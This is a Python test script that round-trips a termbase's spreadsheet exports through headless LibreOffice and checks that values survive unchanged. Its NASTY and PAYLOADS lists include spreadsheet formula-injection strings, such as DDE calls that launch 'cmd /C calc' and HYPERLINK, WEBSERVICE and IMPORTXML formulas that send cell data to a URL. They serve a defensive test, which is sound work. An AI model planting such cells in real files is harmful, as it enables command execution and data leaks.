#!/usr/bin/python3
"""Tables through LibreOffice and back: nothing may change but what somebody changes there.

Usage: spreadsheet_round_trip.py SHUYU FOLDER [TEXT...]

Needs soffice (Calc) and its Python bridge (python3-uno). The termbase holds nasty values and, with TEXTs, the
candidates of these, accepted. Each way through LibreOffice is: opened, cells edited or not, saved, imported; then the
facts must be those of before, with exactly these edits.
"""

import csv
import json
import os
import subprocess
import sys
import time

import uno
from com.sun.star.beans import PropertyValue
from com.sun.star.connection import NoConnectException
from com.sun.star.table.CellContentType import TEXT

# Values that a spreadsheet is tempted to understand.
NASTY = [
    "=1+1", "+1", "-1", "@SUM(A1)", "'quoted'", "'=1", "''=1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")',
    "tab\tinside", "two\nlines", 'say "x"', "a, b; c | d", "007", "0012.50", "2017-10-24", "2017-10", "1/2", "1e5",
    "12E-3", "TRUE", "false", "10%", "$5", "¥5", "1,234", "12345678901234567890", "3.10", "24.10.2017", "10:30",
    "Mar-1", "10 October 2017", "March 8", "2017年10月24日", "10月24日", "０７", "－1", "＝1+1", "smile 🙂👨\u200d👩\u200d👧",
    "𠮷野家与𪚥", "ＡＢＣ　全角", "_x0041_", "<b>&amp;</b>", "#N/A", "#12", "x" * 900, "{=1}", "(5)", "1 1/2",
    "=", "+", "-", "- x", "\u00a0=1", "trailing blanks  ", "\u3000全角空格\u3000", "None", "1.0", ".5", "5.", "+86 10 1234", "0x1F", "1_000",
]

# What would run or turn into something else if a spreadsheet took it for a formula.
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?"&A1,"x")', '=WEBSERVICE("http://example.org")',
    '=IMPORTXML("http://example.org","//a")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=2+5+cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1", "\u3000=1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠x",
    "'=1+1", "''=1+1", '"=1+1', "=1+1;x", "=1,2", '="a"', "=A1", "=A1:B2", "=SUM(A:A)", "=NOW()", "=RAND()",
    "=INDIRECT(\"A1\")", "=INFO(\"system\")", "=CELL(\"filename\")", "=1\n=2", "=1\t=2", "-2", "+2", "-x", "+x", "@x",
    "=", "-", "+", "@", "=+-@", "=1+1\u200b", "\u200b=1+1", "%0A=1+1", "={1;2}", "=TRUE()", "-(1)", "+(1)", "=-1",
]

ENGLISH = 1
DEFINITION, NOTE = 7, 8


def run(*command, **options):
    done = subprocess.run(command, capture_output=True, text=True, **options)
    if done.returncode != 0:
        sys.exit(f"{' '.join(map(str, command))}: exit {done.returncode}\n{done.stdout[-2000:]}{done.stderr[-2000:]}")
    return done.stdout


def term_of(text, usage=None):
    return {"text": text, "pinyin": None, "doubt": [], "part_of_speech": "noun", "forbidden": False, "note": None,
            "usage": usage or []}


def make_termbase(shuyu, folder, values, texts):
    """A termbase with each value as an equivalent, a definition, a note and a source."""
    database = f"{folder}/full.db"
    with open(f"{folder}/nasty.jsonl", "w", encoding="utf-8") as file:
        for number, value in enumerate(values):
            period = {"from": "2017-10-24" if number % 2 else "2017-10", "until": None, "source": value, "status": None}
            record = {"v": 1, "kind": "entry", "entry": {
                "uid": f"{number:032x}", "subject": value, "definition": value, "note": value,
                "languages": [
                    {"lang": "zh-CN", "terms": [term_of(f"词{number}")]},
                    {"lang": "en", "terms": [term_of(value, [period])]},
                ]}}
            file.write(json.dumps(record, ensure_ascii=False) + "\n")
        for number, value in enumerate(values):
            # As the term itself, with a character that makes it one.
            record = {"v": 1, "kind": "entry", "entry": {
                "uid": f"{number + 10_000:032x}", "subject": None, "definition": None, "note": None,
                "languages": [{"lang": "zh-CN", "terms": [term_of(f"{value}词")]}]}}
            file.write(json.dumps(record, ensure_ascii=False) + "\n")
    run(shuyu, "-q", "-d", database, "import", f"{folder}/nasty.jsonl", "--strict")
    if texts:
        run(shuyu, "-q", "-d", database, "add", *texts)
        found = run(shuyu, "-q", "-d", database, "extract", "--limit", "40").splitlines()
        terms = "\n".join(line.split("\t")[0] for line in found)
        run(shuyu, "-q", "-d", database, "accept", "-", input=terms)
    return database


def facts(shuyu, database):
    """The entries of a termbase by uid."""
    lines = (json.loads(line) for line in run(shuyu, "-d", database, "dump").splitlines())
    return {line["entry"]["uid"]: line["entry"] for line in lines if line["kind"] == "entry"}


class Office:
    """LibreOffice without a window."""

    def __init__(self, folder):
        pipe = f"shuyu{os.getpid()}"
        self.process = subprocess.Popen(
            ["soffice", "--headless", "--norestore", "--nologo", f"-env:UserInstallation=file://{folder}/profile",
             f"--accept=pipe,name={pipe};urp;"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        local = uno.getComponentContext()
        resolver = local.ServiceManager.createInstanceWithContext("com.sun.star.bridge.UnoUrlResolver", local)
        for _ in range(120):
            try:
                context = resolver.resolve(f"uno:pipe,name={pipe};urp;StarOffice.ComponentContext")
                break
            except NoConnectException:
                time.sleep(0.5)
        else:
            sys.exit("LibreOffice does not start")
        self.desktop = context.ServiceManager.createInstanceWithContext("com.sun.star.frame.Desktop", context)

    def close(self):
        try:
            self.desktop.terminate()
        except Exception:  # the bridge is cut while it answers
            pass
        self.process.wait(timeout=60)

    def open(self, path):
        properties = [value("Hidden", True)]
        if path.endswith(".csv"):
            # UTF-8; numbers and dates are recognised and formulas run, as the boldest user has it.
            properties += [value("FilterName", "Text - txt - csv (StarCalc)"),
                           value("FilterOptions", "44,34,76,1,,1033,false,true,false,false,false,-1,true")]
        return self.desktop.loadComponentFromURL(f"file://{path}", "_blank", 0, tuple(properties))

    @staticmethod
    def save(document, path):
        filters = {".xlsx": "Calc MS Excel 2007 XML", ".ods": "calc8", ".csv": "Text - txt - csv (StarCalc)"}
        properties = [value("FilterName", filters[os.path.splitext(path)[1]])]
        if path.endswith(".csv"):
            properties.append(value("FilterOptions", "44,34,76,1,,1033,false,true,true"))
        document.storeToURL(f"file://{path}", tuple(properties))

    def through(self, paths, edit=None):
        """Opens the first file, edits it, and saves and opens it as each of the others in turn."""
        for number, (path, target) in enumerate(zip(paths, paths[1:])):
            document = self.open(path)
            if edit and number == 0:
                edit(document.Sheets.getByIndex(0))
            self.save(document, target)
            document.close(True)


def value(name, content):
    return PropertyValue(Name=name, Value=content, Handle=0, State=0)


def rows_of(sheet):
    cursor = sheet.createCursor()
    cursor.gotoEndOfUsedArea(False)
    return cursor.RangeAddress.EndRow + 1


class Check:
    def __init__(self):
        self.failures = []

    def equal(self, what, found, expected):
        if found == expected:
            print(f"ok      {what}")
            return
        self.failures.append(what)
        print(f"FAILED  {what}")
        differing = [key for key in sorted(set(found) | set(expected)) if found.get(key) != expected.get(key)]
        for key in differing[:20]:
            print(f"  expected {shown(expected.get(key))}\n  found    {shown(found.get(key))}")


def shown(entry):
    if isinstance(entry, dict):
        terms = [(term["text"], term["usage"]) for section in entry["languages"] for term in section["terms"]]
        entry = (terms, entry["subject"], entry["definition"], entry["note"])
    return repr(entry)[:240]


def without_tabs(entries):
    """LibreOffice 7 loses the tabs of cells when it reads its own ODS."""
    return json.loads(json.dumps(entries, ensure_ascii=False).replace("\\t", ""))


def edited(entries):
    """The edits and the entries as they must be after them: by uid of the row's entry, column and text."""
    edits = {
        (f"{0:032x}", DEFINITION): "=not a formula",
        (f"{9:032x}", NOTE): "edited 🙂 here",
        (f"{13:032x}", DEFINITION): "008",
        (f"{15:032x}", ENGLISH): "an equivalent, edited",
    }
    entries = json.loads(json.dumps(entries))
    for (uid, column), text in edits.items():
        if column == ENGLISH:
            term = entries[uid]["languages"][1]["terms"][0]
            term["text"] = text
        else:
            entries[uid]["definition" if column == DEFINITION else "note"] = text
    return edits, entries


def main():
    shuyu, folder, texts = os.path.abspath(sys.argv[1]), os.path.abspath(sys.argv[2]), sys.argv[3:]
    os.makedirs(folder)
    started = time.monotonic()
    database = make_termbase(shuyu, folder, NASTY, texts)
    before = facts(shuyu, database)
    print(f"{len(before)} entries")
    for name in ("plain.xlsx", "plain.csv"):
        run(shuyu, "-q", "-d", database, "export", "--to", name.split(".")[1], "--bom", "-o", f"{folder}/{name}")
    edits, after = edited(before)

    def edit(sheet):
        uid_column = 10
        for row in range(rows_of(sheet)):
            # The uids here are numbers, which the CSV guards.
            uid = sheet.getCellByPosition(uid_column, row).String.lstrip("'")
            for (wanted, column), text in edits.items():
                if uid == wanted:
                    # As text, as a person types it into a cell of that format.
                    sheet.getCellByPosition(column, row).String = text

    check = Check()
    office = Office(folder)

    def imported(name, expected, what):
        copy = f"{folder}/copy.db"
        for file in (copy, f"{copy}-wal", f"{copy}-shm"):
            if os.path.exists(file):
                os.remove(file)
        run(shuyu, "-q", "-d", database, "backup", copy)
        run(shuyu, "-q", "-y", "-d", copy, "import", name, "--on-conflict", "replace", "--strict")
        check.equal(what, facts(shuyu, copy), expected)

    def way(what, first, *steps, edits_cells=False):
        paths = [f"{folder}/{first}"] + [f"{folder}/{number}-{what.replace(' ', '-')}.{step}"
                                         for number, step in enumerate(steps)]
        office.through(paths, edit if edits_cells else None)
        expected = after if edits_cells else before
        expected = without_tabs(expected) if "ods" in steps else expected
        imported(paths[-1], expected, f"{what}: {' → '.join([first, *steps])}")

    try:
        imported(f"{folder}/plain.xlsx", before, "own XLSX")
        imported(f"{folder}/plain.csv", before, "own CSV")
        way("saved again", "plain.xlsx", "xlsx")
        way("by ODS", "plain.xlsx", "ods", "xlsx")
        way("as CSV", "plain.xlsx", "csv")
        way("saved again", "plain.csv", "csv")
        way("by XLSX", "plain.csv", "xlsx", "csv")
        way("edited", "plain.xlsx", "xlsx", edits_cells=True)
        way("edited and by ODS", "plain.xlsx", "ods", "xlsx", edits_cells=True)
        way("edited", "plain.csv", "csv", edits_cells=True)
        way("edited and by XLSX", "plain.csv", "xlsx", "csv", edits_cells=True)
        payloads(shuyu, folder, office, check)
    finally:
        office.close()
    print(f"{time.monotonic() - started:.1f} s")
    if check.failures:
        sys.exit(f"{len(check.failures)} of the ways through LibreOffice changed something")


def payloads(shuyu, folder, office, check):
    """Cells that begin as formulas are shown as text, and come back as they were."""
    os.makedirs(f"{folder}/payloads")
    database = make_termbase(shuyu, f"{folder}/payloads", PAYLOADS, [])
    before = facts(shuyu, database)
    for format in ("csv", "xlsx"):
        path = f"{folder}/payloads/payloads.{format}"
        run(shuyu, "-q", "-d", database, "export", "--to", format, "--bom", "-o", path)
        document = office.open(path)
        sheet = document.Sheets.getByIndex(0)
        formulas = [(row, column, cell.Formula) for row in range(rows_of(sheet)) for column in range(13)
                    for cell in [sheet.getCellByPosition(column, row)]
                    if cell.Formula and cell.Type != TEXT]
        document.close(True)
        # The rows that are numbers in the table are numbers: none here but in no column of ours.
        check.equal(f"{len(PAYLOADS)} payloads are text in {format}", {str(it): it for it in formulas}, {})
        run(shuyu, "-q", "-y", "-d", database, "import", path, "--on-conflict", "replace", "--strict")
        check.equal(f"{len(PAYLOADS)} payloads come back from {format}", facts(shuyu, database), before)
    with open(f"{folder}/payloads/payloads.csv", encoding="utf-8-sig", newline="") as file:
        bare = [cell for row in csv.reader(file) for cell in row if cell.lstrip()[:1] in "=+-@＝＋－＠" and cell.strip()]
    check.equal("no cell of the CSV begins as a formula", {str(it): it for it in bare}, {})


main()
